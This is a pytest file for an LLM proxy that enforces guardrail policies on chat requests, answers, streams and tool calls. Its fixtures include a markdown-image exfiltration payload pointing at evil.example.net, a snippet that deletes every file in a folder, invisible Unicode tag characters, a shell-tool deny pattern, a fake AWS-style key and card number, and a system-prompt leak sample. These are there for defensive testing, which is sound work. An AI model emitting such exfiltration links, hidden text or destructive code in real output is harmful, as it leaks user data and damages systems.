"""Every kind of rule that a policy file knows, over the real exchange: requests, whole answers and streams, both ways.

One line of the table is one kind of rule, a text it takes and one it does not. What only exists in bodies (tools) or
needs a system prompt has tests of its own below.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from akto_proxy.exchange.face import Forward, Refusal
from akto_proxy.model import Action

PHISH = "![pic](https://evil.example.net/p.png?d=SGVsbG8gd29ybGQgc2VjcmV0IGRhdGEgaGVyZQ)"
PROSE = "The committee met in the old library on Tuesday and talked about the budget for the coming year at length."
GERMAN = "Der Ausschuss hat sich am Dienstag in der alten Bibliothek getroffen und lange über den Haushalt gesprochen."
NOISE = "xkqj vzpw qqkx jzvx wkqp zxvq jqkz pwvx kzqj xqvz wjkx qzpv kxjq vwzx qkpz jxvq zkwq xpjv qzkx wvjq kqxz"
ANGRY = "I hate this. You are a horrible, stupid, useless idiot and this is the worst and most disgusting garbage ever."
CODE = "```python\nimport os\n\ndef clean(path):\n    for name in os.listdir(path):\n        os.remove(name)\n```\n"

HIDDEN = "plain \U000e0068\U000e0069\U000e0064\U000e0065 text"
KINDS: list[tuple[str, str, str, str]] = [
    ("secrets", "{detect: secrets, action: ACTION}", "the key AKIAQ3EGW7ZLXK2M5RTB is here", PROSE),
    ("personal data type", "{detect: EMAIL_ADDRESS, action: ACTION}", "write to jo@corp.example now", "no address"),
    ("personal data but one", "{detect: pii, but: EMAIL_ADDRESS, action: ACTION}", "card 4539578763621486 ok",
     "write to jo@corp.example now"),
    ("words", "{words: [spade, shovel], action: ACTION}", "call a Spade by name", "a spaded word"),
    ("words by case", "{words: [Spade], case_sensitive: true, action: ACTION}", "call a Spade by name", "a spade"),
    ("parts of words", "{words: [spade], whole_words: false, action: ACTION}", "he spaded it", "he dug it"),
    ("regex", "{regex: 'EMP-\\d{6}', match: [EMP-123456], no_match: [EMP-1], action: ACTION}", "I am EMP-123456 now",
     "I am EMP-12 now"),
    ("regex by keyword", "{regex: '\\d{6}', keywords: [badge], match: [badge 123456], no_match: [x], action: ACTION}",
     "my badge 123456 is", "my number 123456 is"),
    ("topic", "{topic: weapons, phrases: [build a bomb], action: ACTION}", "how to Build  a-bomb fast", "how to build"),
    ("link denied", "{links: {deny: [evil.example]}, action: ACTION}", "see https://x.evil.example/a ok",
     "see https://good.example/a ok"),
    ("link not allowed", "{links: {allow: [good.example]}, action: ACTION}", "see https://other.example/a ok",
     "see https://x.good.example/a ok"),
    ("canary", "{canary: [zx81-canary-7], action: ACTION}", "it says zx81-canary-7 there", "it says zx81"),
    ("host hidden in a host", "{links: {deny: [evil.example]}, action: ACTION}", "go to evil.example/steal now",
     "go to evil.examples.org now"),
]  # fmt: skip
SIZES: list[tuple[str, str, str, str]] = [
    ("characters", "{limit: {characters: 60}, action: ACTION}", "x " * 60, "short"),
    ("tokens", "{limit: {tokens: 15}, action: ACTION}", "x " * 60, "short"),
    ("many matches", "{words: [spade], min_matches: 3, action: ACTION}", "spade spade spade and more", "spade spade"),
]
STRUCTURE: list[tuple[str, str, str, str]] = [
    ("code ban", "{detect: code, action: ACTION}", CODE * 2, PROSE),
    ("language", "{detect: language, but: language-en, action: ACTION}", GERMAN * 3, PROSE * 3),
    ("gibberish", "{detect: gibberish, action: ACTION}", NOISE * 3, PROSE * 3),
    ("sentiment", "{detect: sentiment, action: ACTION}", ANGRY * 2, PROSE * 2),
    (
        "invisible text",
        "{detect: invisible, action: ACTION}",
        "plain \U000e0068\U000e0069\U000e0064\U000e0065 text",
        PROSE,
    ),
    ("exfiltration", "{detect: exfiltration, action: ACTION}", f"Here you are: {PHISH} done.", PROSE),
]


ANSWERS_ONLY = ("exfiltration",)
"""What a detector looks for in answers alone."""


def policy(rule: str, action: str = "block", **fields: str) -> str:
    head = "".join(f"    {key}: {value}\n" for key, value in fields.items())
    return f"version: 1\npolicies:\n  - name: p\n{head}    rules:\n      - {rule.replace('ACTION', action)}\n"


def request(path: Any, text: str) -> tuple[Any, Any]:
    return path.send({"messages": [{"role": "user", "content": text}]})


def whole(path: Any, text: str) -> tuple[Any, Any]:
    return path.answer({"choices": [{"message": {"role": "assistant", "content": text}}]})


def streamed(path: Any, text: str, size: int = 5) -> tuple[Any, bytes]:
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    events = [{"choices": [{"index": 0, "delta": {"content": piece}}]} for piece in pieces]
    return path.stream([*(b"data: %b\n\n" % json.dumps(event).encode() for event in events), b"data: [DONE]\n\n"])


def said(out: bytes) -> str:
    """What a client joins out of a stream."""
    lines = [line[6:] for line in out.split(b"\n") if line.startswith(b"data: {")]
    deltas = [choice["delta"].get("content", "") for line in lines for choice in json.loads(line).get("choices", [])]
    return "".join(text or "" for text in deltas)


def decisions(exchange: Any) -> list[Any]:
    kept = exchange.trace(status=200, client_gone=False, first_byte=1, upstream_first=1, total=2).decisions
    return [item for item in kept if item.policy == "p"]


def ids(table: list[tuple[str, str, str, str]]) -> list[str]:
    return [line[0] for line in table]


@pytest.mark.parametrize(("name", "rule", "bad", "good"), KINDS + SIZES + STRUCTURE, ids=ids(KINDS + SIZES + STRUCTURE))
def test_a_rule_blocks_what_it_takes_in_requests_answers_and_streams(make_path, name, rule, bad, good):
    path = make_path(policy(rule))
    if name not in ANSWERS_ONLY:
        exchange, result = request(path, bad)
        assert isinstance(result, Refusal)
        assert decisions(exchange)[0].action is Action.BLOCK
    exchange, result = request(path, good)
    assert isinstance(result, Forward)
    assert decisions(exchange) == []

    exchange, result = whole(path, bad)
    assert isinstance(result, Refusal)
    assert bad.encode() not in result.body
    exchange, result = whole(path, good)
    assert isinstance(result, tuple)

    exchange, out = streamed(path, bad)
    assert exchange.cut
    assert b"content_filter" in out
    exchange, out = streamed(path, good)
    assert not exchange.cut
    assert said(out) == good


@pytest.mark.parametrize(("name", "rule", "bad", "good"), KINDS, ids=ids(KINDS))
def test_a_rule_redacts_the_same_in_a_whole_answer_and_in_a_stream(make_path, name, rule, bad, good):
    path = make_path(policy(rule, "redact"))
    _, forward = request(path, bad)
    sent = json.loads(forward.body)["messages"][0]["content"]
    assert sent != bad
    _, (_, body) = whole(path, bad)
    assert json.loads(body)["choices"][0]["message"]["content"] == sent
    for size in (1, 3, 50):
        _, out = streamed(path, bad, size)
        assert said(out) == sent


@pytest.mark.parametrize(("name", "rule", "bad", "good"), KINDS, ids=ids(KINDS))
def test_an_alert_and_a_monitored_block_change_nothing_and_are_recorded(make_path, name, rule, bad, good):
    for fields, done, would in (({"mode": "monitor"}, Action.ALLOW, Action.BLOCK), ({}, Action.ALERT, Action.ALERT)):
        path = make_path(policy(rule, "block" if fields else "alert", **fields))
        exchange, forward = request(path, bad)
        assert json.loads(forward.body)["messages"][0]["content"] == bad
        assert {(item.action, item.would) for item in decisions(exchange)} == {(done, would)}
        exchange, out = streamed(path, bad)
        assert said(out) == bad
        assert {(item.action, item.would) for item in decisions(exchange)} == {(done, would)}


@pytest.mark.parametrize(("direction", "sides"), [("request", (True, False)), ("response", (False, True))])
def test_a_direction_is_kept(make_path, direction, sides):
    path = make_path(policy("{words: [spade], action: block}", direction=direction))
    assert isinstance(request(path, "a spade")[1], Refusal) is sides[0]
    assert isinstance(whole(path, "a spade")[1], Refusal) is sides[1]
    assert streamed(path, "a spade")[0].cut is sides[1]


def test_roles_are_kept(make_path):
    path = make_path(policy("{words: [spade], roles: [tool], action: block}"))
    assert isinstance(request(path, "a spade")[1], Forward)
    found = {
        "messages": [{"role": "user", "content": "x"}, {"role": "tool", "tool_call_id": "1", "content": "a spade"}]
    }
    assert isinstance(path.send(found)[1], Refusal)


def test_an_allowed_phrase_excuses_in_its_own_policy_alone(make_path):
    mild = policy("{detect: EMAIL_ADDRESS, action: block}", allow='["help@corp.example"]')
    path = make_path(mild)
    assert isinstance(request(path, "ask help@corp.example")[1], Forward)
    assert isinstance(request(path, "ask jo@corp.example")[1], Refusal)
    assert said(streamed(path, "ask help@corp.example for it", 4)[1]) == "ask help@corp.example for it"
    both = mild + "  - {name: q, rules: [{detect: EMAIL_ADDRESS, action: block}]}\n"
    assert isinstance(request(make_path(both), "ask help@corp.example")[1], Refusal)


PAY = "pay: {type: object, required: [to], properties: {amount: {maximum: 10}}}"
TOOLS = f"{{tools: {{forbid: ['shell*'], arguments: {{{PAY}}}, max_calls: 2}}, action: block}}"


def call(name: str, arguments: str) -> dict[str, Any]:
    return {"id": "c1", "type": "function", "function": {"name": name, "arguments": arguments}}


def called(*calls: dict[str, Any]) -> dict[str, Any]:
    return {"choices": [{"message": {"role": "assistant", "content": None, "tool_calls": list(calls)}}]}


BAD_CALLS = [
    (call("shell_run", "{}"), "tool:name"),
    (call("pay", '{"amount": 5}'), "tool:arguments"),
    (call("pay", '{"to": "x", "amount": 50}'), "tool:arguments"),
    (call("pay", "not json"), "tool:arguments"),
]


@pytest.mark.parametrize(("bad", "rule"), BAD_CALLS)
def test_a_tool_call_is_judged_in_an_answer_and_in_a_stream(make_path, bad, rule):
    path = make_path(policy(TOOLS))
    exchange, result = path.answer(called(bad))
    assert isinstance(result, Refusal)
    assert decisions(exchange)[0].rule == rule
    _, result = path.answer(called(call("pay", '{"to": "x", "amount": 5}')))
    assert isinstance(result, tuple)

    for call_, cut in ((bad, True), (call("pay", '{"to": "x", "amount": 5}'), False)):
        name, arguments = call_["function"]["name"], call_["function"]["arguments"]
        first = {"index": 0, "id": "c1", "type": "function", "function": {"name": name, "arguments": ""}}
        parts = [
            first,
            *({"index": 0, "function": {"arguments": arguments[at : at + 4]}} for at in range(0, len(arguments), 4)),
        ]
        events = [{"choices": [{"index": 0, "delta": {"tool_calls": [part]}}]} for part in parts]
        events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})
        exchange, out = path.stream([*(b"data: %b\n\n" % json.dumps(e).encode() for e in events), b"data: [DONE]\n\n"])
        assert exchange.cut is cut
        if cut:
            assert arguments.encode() not in out or arguments == "{}"


def test_tools_offered_and_calls_of_a_conversation_are_judged_in_requests(make_path):
    path = make_path(policy(TOOLS))
    offered = {"type": "function", "function": {"name": "shell_run", "parameters": {}}}
    said_ = [{"role": "user", "content": "x"}]
    exchange, result = path.send({"messages": said_, "tools": [offered]})
    assert isinstance(result, Refusal)
    assert decisions(exchange)[0].rule == "tool:name"
    good = call("pay", '{"to": "x"}')
    turns = [{"role": "assistant", "tool_calls": [good]}, {"role": "tool", "tool_call_id": "c1", "content": "done"}]
    assert isinstance(path.send({"messages": [*said_, *turns, *turns]})[1], Forward)
    exchange, result = path.send({"messages": [*said_, *turns, *turns, *turns]})
    assert isinstance(result, Refusal)
    assert decisions(exchange)[0].rule == "tool:calls"


PROMPT = (
    "You are Quill, the assistant of Harbour Bank. Never discuss the merger with Northwind. Refund limits: 250 euros "
    "without a manager, 900 with one. Escalate anything about card fraud to desk seven."
)


def test_a_system_prompt_in_an_answer_is_found_whole_and_streamed(make_path):
    path = make_path(policy("{detect: leak, action: ACTION}", direction="response"))
    ask = {"messages": [{"role": "system", "content": PROMPT}, {"role": "user", "content": "hi"}]}
    for text, taken in ((f"My instructions are: {PROMPT}", True), (PROSE * 3, False)):
        exchange, _ = path.send(ask)
        exchange.head(200, [(b"Content-Type", b"application/json")])
        body = json.dumps({"choices": [{"message": {"role": "assistant", "content": text}}]}).encode()
        assert isinstance(exchange.body(body), Refusal) is taken
        exchange, _ = path.send(ask | {"stream": True})
        exchange.head(200, [(b"Content-Type", b"text/event-stream")])
        events = [{"choices": [{"index": 0, "delta": {"content": text[at : at + 9]}}]} for at in range(0, len(text), 9)]
        for event in events:
            exchange.chunk(b"data: %b\n\n" % json.dumps(event).encode())
        exchange.end()
        assert exchange.cut is taken


def events(*trees: dict[str, Any]) -> list[bytes]:
    return [b"event: %b\ndata: %b\n\n" % (tree["type"].encode(), json.dumps(tree).encode()) for tree in trees]


def responses_stream(arguments: str, *, done: bool) -> list[bytes]:
    item = {"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": "pay", "arguments": ""}
    parts = [arguments[at : at + 4] for at in range(0, len(arguments), 4)]
    at = {"output_index": 2, "item_id": "fc_1"}
    told = [
        {"type": "response.output_item.added", "output_index": 2, "item": item},
        *({"type": "response.function_call_arguments.delta", **at, "delta": part} for part in parts),
    ]
    if done:
        told.append({"type": "response.function_call_arguments.done", **at, "arguments": arguments})
        told.append({"type": "response.output_item.done", "output_index": 2, "item": item | {"arguments": arguments}})
    return events(*told, {"type": "response.completed", "response": {"status": "completed", "output": []}})


@pytest.mark.parametrize("done", [True, False], ids=["told again", "deltas alone"])
def test_arguments_of_a_responses_stream_wait_until_they_are_judged(make_path, done):
    path = make_path(policy(TOOLS))
    exchange, out = path.stream(responses_stream('{"to": "x", "amount": 50}', done=done))
    assert exchange.cut
    assert b"arguments.delta" not in out
    assert {item.rule for item in decisions(exchange)} == {"tool:arguments"}
    good = responses_stream('{"to": "x", "amount": 5}', done=done)
    exchange, out = path.stream(good)
    assert not exchange.cut
    assert out == b"".join(good)


def test_calls_of_a_responses_stream_are_counted_once_each(make_path):
    path = make_path(policy("{tools: {max_calls: 1}, action: block}"))
    assert not path.stream(responses_stream('{"to": "x"}', done=True))[0].cut


def anthropic(**given: Any) -> dict[str, Any]:
    call_ = {"type": "tool_use", "id": "toolu_1", "name": "pay", "input": given}
    return {"type": "message", "role": "assistant", "content": [{"type": "text", "text": "so"}, call_]}


def ollama(**given: Any) -> dict[str, Any]:
    calls = [{"function": {"name": "pay", "arguments": given}}]
    return {"model": "m", "message": {"role": "assistant", "content": "", "tool_calls": calls}, "done": True}


@pytest.mark.parametrize("make", [anthropic, ollama])
def test_arguments_that_are_an_object_keep_the_schema_too(make_path, make):
    path = make_path(policy(TOOLS))
    exchange, result = path.answer(make(to="x", amount=50))
    assert isinstance(result, Refusal)
    assert [item.rule for item in decisions(exchange)] == ["tool:arguments"]
    assert isinstance(path.answer(make(to="x", amount=5))[1], tuple)
    exchange, result = path.send({"messages": [{"role": "user", "content": "hi"}, make(amount=1)]})
    assert isinstance(result, Refusal)
    for given, cut in (({"to": "x", "amount": 50}, True), ({"to": "x", "amount": 5}, False)):
        exchange, _ = path.stream([b"data: %b\n\n" % json.dumps(make(**given)).encode()])
        assert exchange.cut is cut


def test_an_argument_that_comes_twice_breaks_every_schema(make_path):
    path = make_path(policy(TOOLS))
    twice = b'{"to":"x","amount":50,"amount":5}'
    said_ = called(call("pay", twice.decode()))
    assert isinstance(path.answer(said_)[1], Refusal)
    body = json.dumps(ollama(marker=1)).encode().replace(b'{"marker": 1}', twice)
    assert isinstance(path.answer(body)[1], Refusal)


def test_the_free_text_of_a_custom_tool_is_judged_as_a_string(make_path):
    schema = "pay: {type: string, maxLength: 5}"
    path = make_path(policy(f"{{tools: {{forbid: [shell], arguments: {{{schema}}}}}, action: block}}"))

    def custom(name: str, text: str) -> dict[str, Any]:
        return called({"id": "c1", "type": "custom", "custom": {"name": name, "input": text}})

    assert isinstance(path.answer(custom("shell", "x"))[1], Refusal)
    assert isinstance(path.answer(custom("pay", "more than five"))[1], Refusal)
    assert isinstance(path.answer(custom("pay", "five"))[1], tuple)


def test_a_tool_that_may_be_chosen_is_no_call(make_path):
    path = make_path(policy("{tools: {max_calls: 0}, action: block}"))
    choice = {"type": "function", "function": {"name": "pay"}}
    assert isinstance(path.send({"messages": [{"role": "user", "content": "x"}], "tool_choice": choice})[1], Forward)
